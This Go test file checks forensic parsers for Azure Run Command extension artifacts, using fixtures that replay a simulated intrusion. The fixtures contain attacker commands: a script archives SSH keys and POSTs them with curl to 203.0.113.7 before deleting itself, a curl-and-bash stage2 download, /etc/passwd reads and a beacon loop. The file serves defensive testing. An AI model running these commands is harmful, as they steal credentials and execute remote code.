package extensions

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Assertions follow the story in tests/fixtures/README.md.

const (
	fxSeq2Script = "#!/bin/bash\ntar czf loot.tar.gz /etc/hostname /root/.ssh/authorized_keys\nls -l loot.tar.gz\n" +
		"curl -sk -X POST -F \"f=@loot.tar.gz\" https://203.0.113.7/u\nrm -f \"$0\""
	fxH = "/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5"
	fxD = "/var/lib/waagent/run-command/download"
)

func TestFixtureLinuxExecutions(t *testing.T) {
	root := fixtureTree(t, "linux")
	rows, logs := runVQL(t, "SELECT * FROM azure_run_executions(root=Root)", map[string]any{"Root": root})
	dumpRows(t, rows)
	if logs != "" {
		t.Errorf("unexpected log on a clean tree:\n%s", logs)
	}
	if len(rows) != 4 {
		t.Fatalf("rows %d", len(rows))
	}
	check(t, "seq0", rows[0], map[string]any{
		"SeqNo": int64(0), "Command": "id; hostname; cat /etc/passwd | head -3", "CommandSource": "protectedSettings", "Protected": true,
		"DecryptError": nil,
		"ScriptPath":   fxD + "/0/script.sh", "Status": "success", "Running": false,
		"Started": "2025-03-14T09:12:04.401733Z", "StartedSource": "script.mtime",
		"Finished": "2025-03-14T09:12:04.489577Z", "FinishedSource": "status.timestamp",
		"StdErr": "", "OutputSource": "files",
	})
	if !strings.HasPrefix(rows[0]["StdOut"].(string), "uid=0(root) gid=0(root) groups=0(root)\n") {
		t.Errorf("seq0 stdout %q", rows[0]["StdOut"])
	}
	check(t, "seq1", rows[1], map[string]any{
		"SeqNo":         int64(1),
		"Command":       "bash ./collect.sh; curl -fsSL https://203.0.113.7/stage2.sh -o /tmp/s.sh && bash /tmp/s.sh",
		"CommandSource": "settings", "Protected": false, "ScriptPath": nil, "Status": "success", "ExitCode": nil,
		"FileUris": "[https://stvmtools4821.blob.core.windows.net/tools/collect.sh?sv=2021-08-06&se=2025-03-14T11%3A45%3A00Z&sr=b&sp=r&sig=[REDACTED]]",
		"StdErr":   "Failed to enable unit: Unit file dbus-update.service does not exist.\n",
		"Finished": "2025-03-14T09:47:23.622805Z",
		"Started":  "2025-03-14T09:47:22.109833Z", "StartedSource": "download.mtime",
	})
	if !strings.HasPrefix(rows[1]["StdOut"].(string), "host=vm-web01 kernel=5.15.0-1057-azure\n") {
		t.Errorf("seq1 stdout %q", rows[1]["StdOut"])
	}
	f1 := rows[1]["Files"].([]any)
	if len(f1) != 1 {
		t.Fatalf("seq1 files %v", f1)
	}
	check(t, "seq1 collect.sh", f1[0].(map[string]any), map[string]any{"Name": "collect.sh", "OSPath": fxD + "/1/collect.sh"})
	check(t, "seq2", rows[2], map[string]any{
		"SeqNo": int64(2), "Command": fxSeq2Script, "CommandSource": "protectedSettings", "ScriptPath": nil, "ScriptSHA256": nil, "Protected": true,
		"StdOut": "-rw-r--r-- 1 root root 255 Mar 14 10:05 loot.tar.gz\n{\"status\":\"ok\",\"id\":\"7f3a9c\"}",
		"StdErr": "tar: Removing leading `/' from member names\n", "Finished": "2025-03-14T10:05:42.21459Z",
	})
	f2 := rows[2]["Files"].([]any)
	if len(f2) != 1 {
		t.Fatalf("seq2 files %v", f2)
	}
	check(t, "seq2 loot", f2[0].(map[string]any), map[string]any{"Name": "loot.tar.gz", "Size": int64(255),
		"SHA256": "86d093566ffb86a210fd87686d3cefc13baf928f8b0b6f875b8ff039edd80fcd"})
	check(t, "seq3", rows[3], map[string]any{
		"SeqNo": int64(3), "CommandSource": "protectedSettings", "Status": "transitioning", "Running": true, "Pid": int64(37342), "MostRecent": true,
		"Started": "2025-03-14T10:31:04.553391Z", "Finished": nil, "FinishedSource": nil,
		"StdOut": "2025-03-14T10:31:04Z beacon vm-web01\n2025-03-14T10:36:05Z beacon vm-web01\n",
	})
	if !strings.Contains(rows[3]["Command"].(string), "sleep 300") {
		t.Errorf("seq3 command %q", rows[3]["Command"])
	}

	// The decrypted protected settings of the Run Command v1 runs (the
	// tree keeps its tenant key): seq 0, 2 and 3 send their script there.
	for _, i := range []int{0, 2, 3} {
		d, ok := rows[i]["ProtectedSettingsDecrypted"].(map[string]any)
		if !ok || d["script"] == nil {
			t.Errorf("seq%d ProtectedSettingsDecrypted %v", i, rows[i]["ProtectedSettingsDecrypted"])
		}
	}
	if rows[1]["ProtectedSettingsDecrypted"] != nil || rows[1]["DecryptError"] != nil {
		t.Errorf("seq1 (no protected settings): %v %v", rows[1]["ProtectedSettingsDecrypted"], rows[1]["DecryptError"])
	}
	// decrypt=false: the script file for seq 0 and 3, nothing for seq 2.
	rows, _ = runVQL(t, "SELECT SeqNo, CommandSource, ProtectedSettingsDecrypted FROM azure_run_executions(root=Root, decrypt=false)", map[string]any{"Root": root})
	for i, want := range []any{"script", "settings", nil, "script"} {
		if rows[i]["CommandSource"] != want || rows[i]["ProtectedSettingsDecrypted"] != nil {
			t.Errorf("decrypt=false seq%d: %v", i, rows[i])
		}
	}

	// redact=false shows the SAS signature.
	rows, _ = runVQL(t, "SELECT FileUris FROM azure_run_executions(root=Root, redact=false) WHERE SeqNo = 1", map[string]any{"Root": root})
	if u := rows[0]["FileUris"].([]any)[0].(string); !strings.HasSuffix(u, "sig=Xq3v9bK2mN7pL4rT8wY1zA6cE0fH5jD2gS9uI3oP7kM%3D") {
		t.Errorf("redact=false: %s", u)
	}
}

func TestFixtureLinuxHandlers(t *testing.T) {
	root := fixtureTree(t, "linux")
	rows, logs := runVQL(t, "SELECT * FROM azure_extension_handlers(root=Root)", map[string]any{"Root": root})
	if logs != "" || len(rows) != 2 {
		t.Fatalf("rows %d log %s", len(rows), logs)
	}
	check(t, "ama", rows[0], map[string]any{"Handler": "Microsoft.Azure.Monitor.AzureMonitorLinuxAgent", "Version": "1.9.1", "Running": false, "Pid": nil, "MostRecentSeq": int64(0)})
	check(t, "rc1", rows[1], map[string]any{"Handler": "Microsoft.CPlat.Core.RunCommandLinux", "Version": "1.0.5", "OSPath": fxH,
		"State": "Enabled", "MostRecentSeq": int64(3), "Running": true, "Pid": int64(37342), "PidStart": "Fri Mar 14 10:31:04 2025",
		"SettingsCount": int64(4), "StatusCount": int64(4)})
}

func TestFixtureLinuxSettingsStatus(t *testing.T) {
	root := fixtureTree(t, "linux")
	cfg := filepath.Join(root, filepath.FromSlash(fxH), "config")
	st := filepath.Join(root, filepath.FromSlash(fxH), "status")
	var sf, tf []any
	for i := 0; i < 4; i++ {
		sf = append(sf, filepath.Join(cfg, string(rune('0'+i))+".settings"))
		tf = append(tf, filepath.Join(st, string(rune('0'+i))+".status"))
	}
	rows, logs := runVQL(t, "SELECT * FROM azure_extension_settings(filename=F, root=Root)", map[string]any{"Root": root, "F": sf})
	if logs != "" || len(rows) != 4 {
		t.Fatalf("settings rows %d log %s", len(rows), logs)
	}
	for i, r := range rows {
		check(t, "settings", r, map[string]any{"OSPath": fxH + "/config/" + string(rune('0'+i)) + ".settings", "SeqNo": int64(i), "ParseError": nil, "Empty": false})
	}
	check(t, "settings 0", rows[0], map[string]any{"Protected": true, "Thumbprint": "010F03CA0562E782EF60F02376591592CF2101F4",
		"Command": "id; hostname; cat /etc/passwd | head -3", "CommandField": "protectedSettings.script", "DecryptError": nil})
	check(t, "settings 1", rows[1], map[string]any{"ProtectedSettingsDecrypted": nil, "DecryptError": nil})
	check(t, "settings 2", rows[2], map[string]any{"Command": fxSeq2Script, "CommandField": "protectedSettings.script"})
	check(t, "settings 1", rows[1], map[string]any{"Protected": false, "Thumbprint": nil, "ProtectedSettings": nil, "CommandField": "commandToExecute"})
	if !strings.HasPrefix(rows[3]["ProtectedSettings"].(string), "MII") {
		t.Errorf("ciphertext %v", rows[3]["ProtectedSettings"])
	}

	rows, logs = runVQL(t, "SELECT * FROM azure_extension_status(filename=F, root=Root)", map[string]any{"Root": root, "F": tf})
	if logs != "" || len(rows) != 4 {
		t.Fatalf("status rows %d log %s", len(rows), logs)
	}
	check(t, "status 0", rows[0], map[string]any{"Status": "success", "Writer": "extension", "Placeholder": false, "Timestamp": "2025-03-14T09:12:04Z", "StdErr": ""})
	check(t, "status 3", rows[3], map[string]any{"Status": "transitioning", "Writer": "extension", "Placeholder": false, "Message": "Enable in progress", "Timestamp": "2025-03-14T10:31:04Z"})
}

func TestFixtureLinuxBad(t *testing.T) {
	root := fixtureTree(t, "linux-bad")
	rows, logs := runVQL(t, "SELECT * FROM azure_run_executions(root=Root)", map[string]any{"Root": root})
	dumpRows(t, rows)
	if len(rows) != 13 {
		t.Fatalf("rows %d", len(rows))
	}
	for i, r := range rows {
		if num(r["SeqNo"]) != int64(i) {
			t.Errorf("row %d: SeqNo %v", i, r["SeqNo"])
		}
	}
	for _, want := range []string{fxH + "/config/0.settings: truncated JSON", fxH + "/config/8.settings: runtimeSettings is empty"} {
		if !strings.Contains(logs, want) {
			t.Errorf("log lacks %q:\n%s", want, logs)
		}
	}
	check(t, "0 truncated settings", rows[0], map[string]any{"Command": "id", "CommandSource": "script", "Protected": nil, "Status": "success"})
	check(t, "1 empty settings", rows[1], map[string]any{"Command": "uname -sr", "Protected": nil, "StartedSource": "script.mtime"})
	check(t, "2 bom", rows[2], map[string]any{"Status": "success"})
	check(t, "3 utf16", rows[3], map[string]any{"Status": "success"})
	check(t, "4 never ran", rows[4], map[string]any{"Command": "echo never-ran", "Status": nil, "WorkingDir": nil, "Running": false, "Finished": nil})
	check(t, "5 no settings", rows[5], map[string]any{"SettingsPath": nil, "Status": "success", "Command": nil})
	check(t, "7 object status", rows[7], map[string]any{"Status": "success"})
	check(t, "8 error status", rows[8], map[string]any{"Status": "error"})
	check(t, "9 big stdout", rows[9], map[string]any{"StdOutTruncated": true})
	if n := len(rows[9]["StdOut"].(string)); n != MaxOutputBytes {
		t.Errorf("9: stdout %d bytes", n)
	}
	f10 := rows[10]["Files"].([]any)
	if len(f10) != 1 || f10[0].(map[string]any)["Name"] != "loop" || f10[0].(map[string]any)["SHA256"] != nil {
		t.Errorf("10 symlink loop: %v", f10)
	}
	check(t, "11 crash", rows[11], map[string]any{"Status": "transitioning", "Running": true,
		"StatusLeftovers": "[" + fxH + "/status/11.status2847193650]"})
	check(t, "12 never executed", rows[12], map[string]any{"Status": "transitioning", "Running": false, "StartedSource": "status.placeholder", "Started": "2025-03-20T11:00:00.3Z"})

	// Every status file parses (or reports) without stopping.
	st := filepath.Join(root, filepath.FromSlash(fxH), "status")
	matches, _ := filepath.Glob(filepath.Join(st, "*"))
	var files []any
	for _, m := range matches {
		files = append(files, m)
	}
	rows, _ = runVQL(t, "SELECT OSPath, SeqNo, Status, Encoding, Writer, ParseError FROM azure_extension_status(filename=F, root=Root)", map[string]any{"Root": root, "F": files})
	if len(rows) != len(files) {
		t.Errorf("status rows %d of %d", len(rows), len(files))
	}
	for _, r := range rows {
		switch {
		case strings.HasSuffix(r["OSPath"].(string), "/2.status"):
			check(t, "bom", r, map[string]any{"Encoding": "utf-8-bom", "Status": "success"})
		case strings.HasSuffix(r["OSPath"].(string), "/3.status"):
			check(t, "utf16", r, map[string]any{"Encoding": "utf-16le", "Status": "success"})
		case strings.HasSuffix(r["OSPath"].(string), "/12.status"):
			check(t, "placeholder", r, map[string]any{"Writer": "shim"})
		}
	}
}

// A run whose own settings were truncated, and whose goal state (an
// agent <= 2.7 ExtensionsConfig, unredacted) sent its command only in
// protected settings: the command comes from the decrypted goal state.
func TestGoalStateProtectedCommand(t *testing.T) {
	root := fixtureTree(t, "goalstates")
	cfg := filepath.Join(root, "var", "lib", "waagent", "Microsoft.Azure.Extensions.CustomScript-2.1.10", "config")
	if err := os.MkdirAll(cfg, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(cfg, "2.settings"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	q := "SELECT SeqNo, Command, CommandSource, GoalState, Protected, ProtectedSettingsDecrypted, DecryptError FROM azure_run_executions(root=Root, decrypt=D)"
	rows, _ := runVQL(t, q, map[string]any{"Root": root, "D": "auto"})
	if len(rows) != 1 {
		t.Fatalf("rows %v", rows)
	}
	check(t, "auto", rows[0], map[string]any{"SeqNo": int64(2), "Command": "bash stage.sh 203.0.113.7", "CommandSource": "goalstate",
		"GoalState": "/var/lib/waagent/ExtensionsConfig.11.xml", "Protected": nil, "ProtectedSettingsDecrypted": nil, "DecryptError": nil})
	rows, _ = runVQL(t, q, map[string]any{"Root": root, "D": false})
	check(t, "decrypt=false", rows[0], map[string]any{"Command": nil, "CommandSource": nil, "GoalState": "/var/lib/waagent/ExtensionsConfig.11.xml"})
}

// TestSettingsKeysBesideFile (issue 17 §5): a .settings file given alone
// (no root=, no keys=) is decrypted with the key the agent keeps in the
// folder holding the handler folder; without key material there,
// DecryptError says where it looked.
func TestSettingsKeysBesideFile(t *testing.T) {
	root := fixtureTree(t, "linux")
	file := filepath.Join(root, filepath.FromSlash(fxH), "config", "0.settings")
	rows, logs := runVQL(t, "SELECT * FROM azure_extension_settings(filename=F, decrypt=TRUE)", map[string]any{"F": file})
	if len(rows) != 1 {
		t.Fatalf("rows %d log %s", len(rows), logs)
	}
	check(t, "beside", rows[0], map[string]any{"DecryptError": nil,
		"Command": "id; hostname; cat /etc/passwd | head -3", "CommandField": "protectedSettings.script"})

	// The same file copied without the agent's folder around it.
	lone := filepath.Join(t.TempDir(), "Microsoft.CPlat.Core.RunCommandLinux-1.0.5", "config")
	if err := os.MkdirAll(lone, 0o755); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	copied := filepath.Join(lone, "0.settings")
	if err := os.WriteFile(copied, data, 0o644); err != nil {
		t.Fatal(err)
	}
	rows, _ = runVQL(t, "SELECT * FROM azure_extension_settings(filename=F, decrypt=TRUE)", map[string]any{"F": copied})
	want := "no key for thumbprint 010F03CA0562E782EF60F02376591592CF2101F4 (no keys were loaded) (looked for " +
		"<THUMB>.crt/.prv, Certificates.pem and Certificates.xml/.p7m with TransportPrivate.pem in " +
		filepath.Dir(filepath.Dir(lone)) + "; pass keys= or root=)"
	if len(rows) != 1 || rows[0]["DecryptError"] != want {
		t.Errorf("DecryptError %v\nwant %s", rows[0]["DecryptError"], want)
	}
	// With root= the evidence's /var/lib/waagent is searched, and named.
	rows, _ = runVQL(t, "SELECT * FROM azure_extension_settings(filename=F, root=R, decrypt=TRUE)",
		map[string]any{"F": copied, "R": filepath.Dir(filepath.Dir(lone))})
	if len(rows) != 1 || !strings.HasSuffix(fmt.Sprint(rows[0]["DecryptError"]), " in /var/lib/waagent; pass keys= or root=)") {
		t.Errorf("DecryptError with root= %v", rows[0]["DecryptError"])
	}
}

func TestWaagentDirOf(t *testing.T) {
	for in, want := range map[string]string{
		"/mnt/vm/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5/config/0.settings": "/mnt/vm/var/lib/waagent",
		`D:\case\waagent\Microsoft.CPlat.Core.RunCommandLinux-1.0.5\config\3.settings`:         `D:\case\waagent`,
		"/tmp/0.settings":          "",
		"config/0.settings":        "",
		"/x/handler/status/0.json": "",
	} {
		if got := waagentDirOf(in); got != want {
			t.Errorf("waagentDirOf(%q) = %q, want %q", in, got, want)
		}
	}
}
